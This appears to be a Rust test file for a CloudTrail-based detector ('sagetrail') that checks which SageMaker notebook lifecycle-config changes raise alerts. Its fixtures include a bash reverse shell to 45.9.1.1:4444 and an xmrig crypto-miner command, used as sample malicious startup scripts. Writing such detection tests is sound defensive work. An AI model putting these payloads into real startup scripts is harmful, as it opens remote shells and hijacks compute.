//! An incident that somebody has seen hides neither a second attacker nor a second deed.

use std::process::{Command, Stdio};

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use serde_json::{Value, json};

const SHELL: &str = "#!/bin/bash\nbash -i >& /dev/tcp/45.9.1.1/4444 0>&1\n";
const MINER: &str = "#!/bin/bash\n./xmrig -o stratum+tcp://pool.minexmr.com:4444\n";
const HARMLESS: &str = "#!/bin/bash\necho hi\n";
const OFFICE: &str = "203.0.113.5";
const ABROAD: &str = "45.9.1.1";

/// A start-up script that somebody writes.
#[derive(Clone, Copy)]
struct Writes {
    /// Day of the month, hour and minute.
    at: (u32, u32, u32),
    who: &'static str,
    from: &'static str,
    name: &'static str,
    script: &'static str,
}

fn writes(at: (u32, u32, u32), who: &'static str, name: &'static str, script: &'static str) -> Writes {
    let from = if who == "alice" { OFFICE } else { ABROAD };
    Writes { at, who, from, name, script }
}

fn record(number: usize, time: &str, who: &str, from: &str, call: &str, parameters: &Value) -> Value {
    let id = format!("{number:08}-0000-4000-8000-000000000000");
    json!({
        "eventVersion": "1.11", "eventTime": time, "eventSource": "sagemaker.amazonaws.com", "eventName": call,
        "awsRegion": "eu-central-1", "sourceIPAddress": from, "userAgent": "Boto3/1.34.0", "requestParameters": parameters,
        "responseElements": null, "requestID": id, "eventID": id, "readOnly": call.starts_with("List"),
        "eventType": "AwsApiCall", "managementEvent": true, "recipientAccountId": "111122223333", "eventCategory": "Management",
        "userIdentity": {"type": "IAMUser", "principalId": format!("AIDA{:X<16}", who.to_uppercase()),
            "arn": format!("arn:aws:iam::111122223333:user/{who}"), "accountId": "111122223333",
            "accessKeyId": format!("AKIA{:Y<16}", who.to_uppercase()), "userName": who}
    })
}

/// The times of the pages and their sentences, after a week in which both worked.
fn pages(deeds: &[Writes]) -> Vec<(String, String)> {
    let mut records = Vec::new();
    for day in 2..10 {
        for who in ["alice", "bob"] {
            let time = format!("2026-11-{day:02}T09:00:00Z");
            records.push(record(records.len(), &time, who, OFFICE, "ListTrainingJobs", &json!({})));
        }
    }
    for deed in deeds {
        let (day, hour, minute) = deed.at;
        let time = format!("2026-11-{day:02}T{hour:02}:{minute:02}:00Z");
        let parameters = json!({"notebookInstanceLifecycleConfigName": deed.name,
            "onStart": [{"content": BASE64_STANDARD.encode(deed.script)}]});
        let call = "UpdateNotebookInstanceLifecycleConfig";
        records.push(record(records.len(), &time, deed.who, deed.from, call, &parameters));
    }
    let folder = tempfile::tempdir().expect("there is room");
    let path = folder.path().join("records.json");
    std::fs::write(&path, json!({"Records": records}).to_string()).expect("it can be written");
    let output = Command::new(env!("CARGO_BIN_EXE_sagetrail"))
        .args(["backtest", "--json", "--since", "2026-11-10"])
        .arg(&path)
        .env_remove("SAGETRAIL_CONFIG")
        .stdin(Stdio::null())
        .output()
        .expect("the binary runs");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let report: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    let text = |page: &Value, member: &str| page[member].as_str().expect("a text").to_owned();
    let pages = report["pages"].as_array().expect("a list").iter();
    pages.map(|page| (text(page, "time")[8..16].to_owned(), text(page, "sentence"))).collect()
}

/// A false alarm that its own author keeps alive for three days.
const ALARM: [((u32, u32, u32), &str); 4] =
    [((10, 12, 0), SHELL), ((11, 8, 0), SHELL), ((12, 4, 0), SHELL), ((13, 0, 0), SHELL)];

#[test]
fn an_attacker_who_joins_an_old_incident_pages_and_a_colleague_does_not() {
    let alarm: Vec<Writes> = ALARM.iter().map(|(at, script)| writes(*at, "alice", "a", script)).collect();
    let joins = writes((13, 3, 0), "bob", "a", HARMLESS);
    let attacks = [5, 6, 7].map(|minute| writes((13, 3, minute), "bob", "z", SHELL));
    let colleague = Writes { from: OFFICE, ..joins };
    let cases = [
        ("an attack", [&alarm[..], &[joins], &attacks].concat(), vec!["10T12:00", "13T03:05"]),
        ("without the tie", [&alarm[..], &attacks].concat(), vec!["10T12:00", "13T03:05"]),
        ("a colleague", [&alarm[..], &[colleague]].concat(), vec!["10T12:00"]),
    ];
    for (what, deeds, expected) in cases {
        let pages = pages(&deeds);
        let times: Vec<&str> = pages.iter().map(|(time, _)| time.as_str()).collect();
        assert_eq!(times, expected, "{what}: {pages:#?}");
        assert!(pages.get(1).is_none_or(|(_, sentence)| sentence.contains("bob")), "{what}: {pages:#?}");
    }
}

#[test]
fn a_second_deed_within_the_first_hour_pages_after_it() {
    let shell = writes((10, 12, 0), "alice", "a", SHELL);
    let miners = [(10, 12, 30), (10, 15, 0), (11, 12, 0)].map(|at| writes(at, "alice", "b", MINER));
    let shells = [(10, 12, 30), (10, 15, 0), (11, 12, 0)].map(|at| writes(at, "alice", "b", SHELL));
    let cases = [
        ("a miner", [&[shell][..], &miners].concat(), vec!["10T12:00", "10T13:00"]),
        ("a miner, and nothing after it", vec![shell, miners[0]], vec!["10T12:00", "10T13:00"]),
        ("the same again", [&[shell][..], &shells].concat(), vec!["10T12:00"]),
    ];
    for (what, deeds, expected) in cases {
        let pages = pages(&deeds);
        let times: Vec<&str> = pages.iter().map(|(time, _)| time.as_str()).collect();
        assert_eq!(times, expected, "{what}: {pages:#?}");
    }
}
